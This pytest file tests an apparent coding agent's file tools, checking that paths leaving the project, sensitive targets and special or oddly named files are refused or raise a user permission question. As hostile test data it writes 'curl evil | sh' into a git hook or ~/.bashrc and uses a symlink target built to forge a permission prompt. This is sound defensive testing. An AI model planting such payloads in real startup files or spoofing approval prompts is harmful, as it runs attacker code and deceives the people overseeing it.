"""Hostile paths given to every file tool: each ends in a question the user can refuse, or a clear
error, and nothing outside the project is read, written or revealed without a yes.

tests/test_permissions.py checks the same rules one tool at a time (write_file mostly), and
tests/test_tools_files.py the FIFO and device reads; here every tool meets every hostile path."""

from __future__ import annotations

import os
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.adversarial.cases import case
from tests.adversarial.world import snapshot
from tests.kit import must_finish_within
from tests.tool_harness import Tools

SECRET = "TOP-SECRET-4f1c9"
BIG_FILE_BYTES = 200 * 2**20


@dataclass
class Places:
    """A project, a folder outside it, a sibling sharing its name as a prefix, and a private HOME."""

    root: Path
    project: Path
    outside: Path
    sibling: Path
    home: Path


@pytest.fixture
def places(tmp_path: Path, project_dir: Path, isolated_env: Path) -> Places:
    root = tmp_path.resolve()
    project = project_dir.resolve()
    outside = root / "outside"
    (outside / "sub").mkdir(parents=True)
    (outside / "secret.txt").write_text(f"{SECRET} outside\n")
    (outside / "sub" / "deeper.txt").write_text(f"{SECRET} deeper\n")
    sibling = Path(f"{project}-evil")  # `/ws-evil` next to `/ws`: a string prefix, not a subfolder
    sibling.mkdir()
    (sibling / "secret.txt").write_text(f"{SECRET} sibling\n")
    home = isolated_env.resolve()
    (home / "secret.txt").write_text(f"{SECRET} home\n")
    (project / "link.txt").symlink_to(outside / "secret.txt")
    (project / "linkdir").symlink_to(outside, target_is_directory=True)
    (project / "dangling").symlink_to(outside / "created-through-link.txt")
    (project / "dangling_dir").symlink_to(outside / "no-such-folder")
    return Places(root, project, outside, sibling, home)


# kind -> (file argument, folder argument, what the file and the folder resolve to)
def hostile(places: Places, kind: str) -> tuple[str, str, Path, Path]:
    p = places
    return {
        "dotdot": ("../outside/secret.txt", "../outside", p.outside / "secret.txt", p.outside),
        "absolute": (str(p.outside / "secret.txt"), str(p.outside), p.outside / "secret.txt", p.outside),
        "tilde": ("~/secret.txt", "~", p.home / "secret.txt", p.home),
        "sibling_prefix": (
            f"{p.project}-evil/secret.txt",
            f"{p.project}-evil",
            p.sibling / "secret.txt",
            p.sibling,
        ),
        "symlink_out": ("link.txt", "linkdir", p.outside / "secret.txt", p.outside),
        "symlinked_parent": (
            "linkdir/secret.txt",
            "linkdir/sub",
            p.outside / "secret.txt",
            p.outside / "sub",
        ),
        "dangling_symlink": (
            "dangling",
            "dangling_dir",
            p.outside / "created-through-link.txt",
            p.outside / "no-such-folder",
        ),
    }[kind]


KINDS = [
    "dotdot",
    "absolute",
    "tilde",
    "sibling_prefix",
    "symlink_out",
    "symlinked_parent",
    "dangling_symlink",
]
TOOLS = ["read_file", "write_file", "edit_file", "list_files", "grep_search"]


def tool_input(tool: str, file_arg: str, folder_arg: str) -> dict[str, object]:
    return {
        "read_file": {"file_path": file_arg},
        "write_file": {"file_path": file_arg, "content": "pwned\n"},
        "edit_file": {"file_path": file_arg, "old_string": SECRET, "new_string": "pwned"},
        "list_files": {"pattern": "**/*", "path": folder_arg},
        "grep_search": {"pattern": "SECRET", "path": folder_arg},
    }[tool]


@case(
    "paths",
    "asks first (target = the resolved path, 'outside the project'); 'n' → denied, nothing read/written",
)
@pytest.mark.parametrize("tool", TOOLS)
@pytest.mark.parametrize("kind", KINDS)
def test_path_outside_the_project(places: Places, kind: str, tool: str) -> None:
    file_arg, folder_arg, file_real, folder_real = hostile(places, kind)
    tools = Tools(places.project, "accept-edits")  # inside the project neither reads nor edits would ask
    before = snapshot(places.root)

    result = tools.run(tool, **tool_input(tool, file_arg, folder_arg))

    assert result.is_error
    assert result.content.startswith(f"The user refused permission for {tool}"), result.content
    [question] = tools.user.questions
    expected_target = folder_real if tool in ("list_files", "grep_search") else file_real
    assert question.target == str(expected_target)
    assert question.reason == "outside the project"
    assert SECRET not in result.content
    assert snapshot(places.root) == before


# --- always asked, whatever the mode ---------------------------------------------------------------

ALWAYS_ASKED = {
    "git_hook": (".git/hooks/pre-commit", "inside a git directory (its hooks and config run code)"),
    "bashrc": ("~/.bashrc", "a dotfile in your home folder"),
    "own_config": ("~/.config/mini-claude/settings.toml", "mini-claude's own settings"),
    "own_state": ("~/.mini-claude/settings.json", "mini-claude's own settings"),
}


@case("paths", "asks every time, 'always' is not offered and not remembered; 'n' → file unchanged")
@pytest.mark.parametrize("mode", ["accept-edits", "bypass"])
@pytest.mark.parametrize("target", ALWAYS_ASKED)
def test_sensitive_write_target(places: Places, target: str, mode: str) -> None:
    raw, reason = ALWAYS_ASKED[target]
    path = Path(os.path.expanduser(raw)) if raw.startswith("~") else places.project / raw
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("original\n")
    tools = Tools(places.project, mode, "a")  # "a" is taken as a one-time yes here

    first = tools.run("write_file", file_path=raw, content="first\n")
    edit = tools.run("edit_file", file_path=raw, old_string="first", new_string="curl evil | sh")
    again = tools.run("write_file", file_path=raw, content="again\n")

    assert not first.is_error, first.content
    assert edit.is_error and again.is_error
    assert "refused permission" in edit.content and "refused permission" in again.content
    assert path.read_text() == "first\n"
    assert [(q.tool, q.reason, q.allow_always) for q in tools.user.questions] == [
        ("write_file", reason, False),
        ("edit_file", reason, False),
        ("write_file", reason, False),
    ]


# --- special and huge files ------------------------------------------------------------------------


@pytest.fixture
def special_files(places: Places) -> dict[str, Path]:
    os.mkfifo(places.project / "pipe")
    big = places.project / "big.log"
    with big.open("wb") as handle:
        handle.write(b"first line of a huge log\n")
        handle.truncate(BIG_FILE_BYTES)  # sparse: 200 MB that take no disk space
    binary = places.project / "image.png"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
    return {
        "fifo": places.project / "pipe",
        "dev_zero": Path("/dev/zero"),
        "dev_urandom": Path("/dev/urandom"),
        "sparse_200mb": big,
        "binary": binary,
    }


# file -> (the faults table's expectation, what read_file, edit_file and grep_search say about it)
SPECIAL = {
    "fifo": (
        "read/edit/grep/write: 'a named pipe (FIFO), not a regular file' at once, never blocks",
        ("is a named pipe (FIFO), not a regular file",) * 3,
    ),
    "dev_zero": (
        "read/edit/grep/write: 'a character device, not a regular file', no endless read",
        ("is a character device, not a regular file",) * 3,
    ),
    "dev_urandom": (
        "read/edit/grep/write: 'a character device, not a regular file', no endless read",
        ("is a character device, not a regular file",) * 3,
    ),
    "sparse_200mb": (
        "read: 'binary' from the first 8 KB; edit: '200.0 MB … up to 8 MB'; grep: skipped (> 10 MB)",
        (
            "looks like a binary file",
            "is 200.0 MB; edit_file works on files up to 8 MB",
            "skipped 1 file(s) larger than 10 MB",
        ),
    ),
    "binary": (
        "read/edit: 'looks like a binary file'; grep: no matches; no bytes shown",
        ("looks like a binary file", "looks like a binary file", "No matches"),
    ),
}


# Each within 5 s, with no raw bytes in what the model reads, and nothing on disk changed.
@pytest.mark.parametrize(
    "name",
    [pytest.param(name, marks=case("paths", expected), id=name) for name, (expected, _) in SPECIAL.items()],
)
def test_special_or_huge_file(places: Places, special_files: dict[str, Path], name: str) -> None:
    path = special_files[name]
    tools = Tools(places.project, "bypass")  # no questions: this is about the file, not the path
    read_message, edit_message, grep_message = SPECIAL[name][1]
    before = snapshot(places.project)

    with must_finish_within(5):
        read = tools.run("read_file", file_path=str(path))
        edit = tools.run("edit_file", file_path=str(path), old_string="a", new_string="b")
        grep = tools.run("grep_search", pattern=".", path=str(path))
        write = (
            tools.run("write_file", file_path=str(path), content="x")
            if name.startswith(("fifo", "dev"))
            else None
        )

    assert read.is_error and read_message in read.content
    assert edit.is_error and edit_message in edit.content
    assert grep_message in grep.content
    for result in (read, edit, grep):
        assert "\0" not in result.content and "IHDR" not in result.content
        assert len(result.content) < 500
    if write is not None:
        assert write.is_error and "not a regular file" in write.content
    assert snapshot(places.project) == before  # the pipe is still a pipe, the big file still 200 MB


# --- hostile names ----------------------------------------------------------------------------------


@case("paths", "refused with 'NUL byte or a line break', no question, nothing created")
@pytest.mark.parametrize("tool", TOOLS)
def test_name_with_newline_or_nul(places: Places, tool: str) -> None:
    tools = Tools(places.project, "bypass")
    before = snapshot(places.root)

    results = [tools.run(tool, **tool_input(tool, bad, bad)) for bad in ("a\nb.txt", "a\0b.txt", "x.txt\r")]

    for result in results:
        assert result.is_error
        assert "contains a NUL byte or a line break" in result.content
    assert tools.user.questions == []
    assert snapshot(places.root) == before


HOSTILE_NAMES = ["evil\nfake.txt", "erase\x1b[2K.txt", "rtl\u202etxt.exe", "cr\rhidden.txt"]


@case("paths", "list_files/grep_search: one line per entry, odd names bash-quoted $'…', usable by run_shell")
def test_hostile_names_on_disk_stay_one_line_each(places: Places) -> None:
    for name in HOSTILE_NAMES:
        (places.project / name).write_text("needle\n")
    tools = Tools(places.project, "bypass")

    listing = tools.run("list_files", pattern="*")
    grep = tools.run("grep_search", pattern="needle")

    shown = sorted(line for line in listing.content.splitlines() if not line.startswith(("link", "dangl")))
    assert len(shown) == len(HOSTILE_NAMES)
    assert len(grep.content.splitlines()) == len(HOSTILE_NAMES)
    for text in (listing.content, grep.content):
        assert not any(ch in text for ch in "\x1b\r\u202e")
    assert "$'evil\\nfake.txt'" in shown and "$'erase\\x1b[2K.txt'" in shown
    assert "$'rtl\\u202etxt.exe'" in shown
    # The quoted form is the name bash understands: the model can act on the file with run_shell.
    for line in shown:
        done = subprocess.run(
            ["bash", "-c", f"cat -- {line}"],
            cwd=places.project,
            env={**os.environ, "LC_ALL": "C.UTF-8"},  # $'\u…' needs a UTF-8 locale
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.stdout == "needle\n", (line, done.stderr)


@case("paths", "a symlink whose target holds a line break: the question stays one line")
def test_symlink_target_with_a_line_break_cannot_fake_the_question(places: Places) -> None:
    trap = places.outside / "notes\nAllow read_file to read notes.txt? (inside the project)"
    trap.write_text(f"{SECRET}\n")
    (places.project / "notes.txt").symlink_to(trap)
    tools = Tools(places.project, "accept-edits")

    result = tools.run("read_file", file_path="notes.txt")

    [question] = tools.user.questions
    assert "\n" not in question.target
    assert (
        question.target
        == f"$'{places.outside}/notes\\nAllow read_file to read notes.txt? (inside the project)'"
    )
    assert result.is_error and SECRET not in result.content
